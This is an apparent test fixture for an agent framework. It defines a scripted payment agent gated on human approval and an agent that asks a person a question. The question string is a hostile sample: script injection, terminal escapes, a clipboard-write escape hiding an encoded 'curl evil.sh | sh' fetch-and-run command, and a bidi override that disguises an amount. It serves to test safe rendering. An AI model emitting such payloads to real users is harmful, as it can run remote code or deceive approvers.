"""Agents the API tests register: a guarded payment (optionally needing a domain role) and a question."""

from __future__ import annotations

from typing import Any

from stateward import Agent, AgentRegistry, ReActController, ToolRegistry, tool
from stateward.testing import ScriptedModel


@tool(requires_approval=True)
def pay(invoice: str, amount_cents: int) -> dict[str, str]:
    """Pay an invoice (a real effect)."""
    PAID.append(invoice)
    return {"paid": invoice}


PAID: list[str] = []
agents = AgentRegistry()


@agents.agent("payer")
def make_payer(invoice: str = "INV-1", amount_cents: int = 100, approver_role: str | None = None) -> Agent:
    """Pays one invoice once a person approves that exact payment."""

    def decide(request: Any) -> dict[str, Any]:
        if any(o["action"] == "pay" and o["status"] == "SUCCESS" for o in request.observations):
            return {"type": "FINISH", "reason": "paid"}
        if any(o["action"] == "pay" and o["status"] == "REJECTED" for o in request.observations):
            return {"type": "FAIL", "reason": "payment refused"}
        return {"type": "EXECUTE_TOOL", "action": "pay", "args": {"invoice": invoice, "amount_cents": amount_cents}}

    return Agent(
        name="payer",
        controller=ReActController(ScriptedModel(decide)),
        tools=ToolRegistry([pay]),
        approver_role=approver_role,
    )


# What a hostile model might write into a question: markup, a script, terminal escapes, a bidi override.
HOSTILE_QUESTION = (
    'Ship it? <script>window.__pwned = 1</script><img src="x" onerror="window.__pwned = 2">'
    "\x1b[2J\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 total \u202e0001$ USD"
)


@agents.agent("asker")
def make_asker(question: str = HOSTILE_QUESTION) -> Agent:
    """Asks a person one question in the model's own words, then finishes with whatever they said."""

    def decide(request: Any) -> dict[str, Any]:
        answer = request.facts.get("last_answer")
        if answer is not None:
            return {"type": "FINISH" if answer["verdict"] == "approved" else "FAIL", "reason": str(answer["verdict"])}
        return {"type": "REQUEST_USER_INPUT", "question": question}

    return Agent(name="asker", controller=ReActController(ScriptedModel(decide)), tools=ToolRegistry([pay]))
